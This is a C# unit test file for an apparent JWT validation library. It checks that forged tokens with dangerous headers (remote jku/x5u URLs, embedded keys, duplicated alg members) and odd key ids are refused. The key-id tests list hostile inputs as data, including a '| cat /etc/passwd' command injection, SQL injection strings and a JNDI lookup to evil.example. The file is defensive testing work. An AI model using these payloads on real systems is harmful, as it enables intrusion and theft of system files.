using HmacKit.Jwt.Tests.Fixtures;

namespace HmacKit.Jwt.Tests.Validation;

/// <summary>Headers that try to bring a key, to name one in an odd way, or to change how the token is read.</summary>
public class HeaderAttackTests
{
    private readonly House _house = new();

    [Theory]
    [InlineData("crit", """["exp"]""")]
    [InlineData("crit", "[]")]
    [InlineData("b64", "false")]
    [InlineData("zip", "\"DEF\"")]
    [InlineData("cty", "\"JWT\"")]
    [InlineData("jku", "\"https://evil.example/keys\"")]
    [InlineData("jwk", """{"kty":"oct","k":"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"}""")]
    [InlineData("x5u", "\"https://evil.example/certificate\"")]
    [InlineData("x5c", """["MIIB"]""")]
    [InlineData("x5t", "\"AAAA\"")]
    [InlineData("x5t#S256", "\"AAAA\"")]
    [InlineData("enc", "\"A256GCM\"")]
    [InlineData("epk", "{}")]
    [InlineData("apu", "\"QQ\"")]
    [InlineData("apv", "\"QQ\"")]
    [InlineData("iv", "\"QQ\"")]
    [InlineData("tag", "\"QQ\"")]
    [InlineData("p2s", "\"QQ\"")]
    [InlineData("p2c", "1000000000")]
    [InlineData("jku", "null")]
    [InlineData("j\\u006bu", "\"https://evil.example/keys\"")]
    public async Task A_header_that_changes_the_key_or_the_processing_is_refused_even_if_signed(string name, string json) =>
        await _house.Refuses(
            UserTokenStatus.HeaderNotAllowed,
            Forge.Token(House.Payload(), $$"""{"alg":"HS256","typ":"JWT","kid":"2026-02","{{name}}":{{json}}}"""));

    [Theory]
    [InlineData("\"at+jwt\"")]
    [InlineData("\"logout+jwt\"")]
    [InlineData("\"JWS\"")]
    [InlineData("\"\"")]
    [InlineData("1")]
    [InlineData("null")]
    public async Task A_token_of_another_type_is_refused(string type) =>
        await _house.Refuses(
            UserTokenStatus.HeaderNotAllowed,
            Forge.Token(House.Payload(), $$"""{"alg":"HS256","typ":{{type}},"kid":"2026-02"}"""));

    [Theory]
    [InlineData("../../../../dev/null")]
    [InlineData("/dev/null")]
    [InlineData("file:///etc/passwd")]
    [InlineData("' OR '1'='1")]
    [InlineData("x' UNION SELECT 'AAAA")]
    [InlineData("| cat /etc/passwd")]
    [InlineData("${jndi:ldap://evil.example/a}")]
    [InlineData("2026-0")]
    [InlineData("2026-022")]
    [InlineData(" 2026-02")]
    [InlineData("2026-02 ")]
    [InlineData("users")]
    [InlineData("*")]
    public async Task A_key_id_is_compared_and_nothing_else_is_done_with_it(string keyId) =>
        await _house.Refuses(UserTokenStatus.UnknownKey, Forge.Token(House.Payload(), HeaderWith(House.Text(keyId))));

    [Fact]
    public async Task Upper_and_lower_case_of_a_key_id_differ()
    {
        var validator = new UserTokenValidator(new KeyRing(House.Key(Forge.Secret, "Key-A")), House.Issuer, House.Audience, new() { TimeProvider = _house.Clock });

        Assert.True((await validator.ValidateAsync(Forge.Token(House.Payload(), HeaderWith("\"Key-A\"")))).IsValid);
        Assert.Equal(UserTokenStatus.UnknownKey, (await validator.ValidateAsync(Forge.Token(House.Payload(), HeaderWith("\"key-a\"")))).Status);
    }

    [Theory]
    [InlineData("\"\"")]
    [InlineData("\"2026-02\\u0000\"")]
    [InlineData("\"2026\\n02\"")]
    [InlineData("\"2026\\u001b[2J\"")]
    [InlineData("\"2026-02\\u200b\"")]
    [InlineData("\"\\ud800\"")]
    [InlineData("202602")]
    [InlineData("null")]
    [InlineData("false")]
    [InlineData("""["2026-02"]""")]
    [InlineData("""{"kid":"2026-02"}""")]
    public async Task A_key_id_that_is_no_printable_text_is_malformed(string json) =>
        await _house.Refuses(UserTokenStatus.Malformed, Forge.Token(House.Payload(), HeaderWith(json)));

    [Fact]
    public async Task A_key_id_has_at_most_128_characters()
    {
        string longest = new('k', 128);
        var validator = new UserTokenValidator(new KeyRing(House.Key(Forge.Secret, longest)), House.Issuer, House.Audience, new() { TimeProvider = _house.Clock });

        Assert.True((await validator.ValidateAsync(Forge.Token(House.Payload(), HeaderWith(House.Text(longest))))).IsValid);
        await _house.Refuses(UserTokenStatus.Malformed, Forge.Token(House.Payload(), HeaderWith(House.Text(longest + "k"))));
    }

    [Fact]
    public async Task A_header_of_over_1024_characters_is_not_decoded()
    {
        string header = HeaderWith("\"2026-02\"");
        string fits = header.PadRight(768);
        string tooLong = header.PadRight(769);
        Assert.Equal(1024, Forge.Encode(fits).Length);

        Assert.Equal(UserTokenStatus.Valid, await _house.StatusOf(Forge.Token(House.Payload(), fits)));
        await _house.Refuses(UserTokenStatus.TooLong, Forge.Token(House.Payload(), tooLong));
    }

    [Theory]
    [InlineData("""{"alg":"none","alg":"HS256","typ":"JWT","kid":"2026-02"}""")]
    [InlineData("""{"alg":"HS256","alg":"none","typ":"JWT","kid":"2026-02"}""")]
    [InlineData("""{"alg":"HS256","\u0061lg":"none","typ":"JWT","kid":"2026-02"}""")]
    [InlineData("""{"alg":"HS256","typ":"JWT","kid":"2026-01","kid":"2026-02"}""")]
    [InlineData("""{"alg":"HS256","typ":"JWT","kid":"2026-02","x":{"a":1,"a":2}}""")]
    [InlineData("""{"alg":"HS256","typ":"JWT","kid":"2026-02","kid":"2026-02"}""")]
    public async Task A_header_with_a_member_twice_is_refused(string header) =>
        await _house.Refuses(UserTokenStatus.Malformed, Forge.Token(House.Payload(), header));

    [Theory]
    [InlineData("")]
    [InlineData(" ")]
    [InlineData("null")]
    [InlineData("[]")]
    [InlineData("\"HS256\"")]
    [InlineData("""{"alg":"HS256","typ":"JWT","kid":"2026-02"}{}""")]
    [InlineData("""{"alg":"HS256","typ":"JWT","kid":"2026-02",}""")]
    [InlineData("""{"alg":"HS256","typ":"JWT","kid":"2026-02"} // comment""")]
    [InlineData("""{'alg':'HS256','typ':'JWT','kid':'2026-02'}""")]
    [InlineData("""{"alg":"HS256","typ":"JWT","kid":"2026-02\u00""")]
    [InlineData("\uFEFF{\"alg\":\"HS256\",\"typ\":\"JWT\",\"kid\":\"2026-02\"}")]
    public async Task A_header_that_is_not_one_JSON_object_is_malformed(string header) =>
        await _house.Refuses(UserTokenStatus.Malformed, Forge.Token(House.Payload(), header));

    [Fact]
    public async Task A_header_that_is_not_UTF8_is_malformed()
    {
        byte[] header = [.. "{\"alg\":\"HS256\",\"kid\":\"2026-02\",\"x\":\""u8, 0xFF, 0xFE, .. "\"}"u8];
        string token = Forge.Sign(Forge.Encode(header) + "." + Forge.Encode(House.Payload()));

        await _house.Refuses(UserTokenStatus.Malformed, token);
        Assert.Null((await _house.Validator.ValidateAsync(token)).Key);
    }

    [Theory]
    [InlineData(14, UserTokenStatus.Valid)]
    [InlineData(16, UserTokenStatus.Malformed)]
    [InlineData(300, UserTokenStatus.Malformed)]
    public async Task A_header_is_not_followed_into_any_depth(int depth, UserTokenStatus expected)
    {
        string nested = new string('[', depth) + new string(']', depth);
        Assert.Equal(expected, await _house.StatusOf(Forge.Token(House.Payload(), $$"""{"alg":"HS256","kid":"2026-02","x":{{nested}}}""")));
    }

    private static string HeaderWith(string keyIdJson) => $$"""{"alg":"HS256","typ":"JWT","kid":{{keyIdJson}}}""";
}
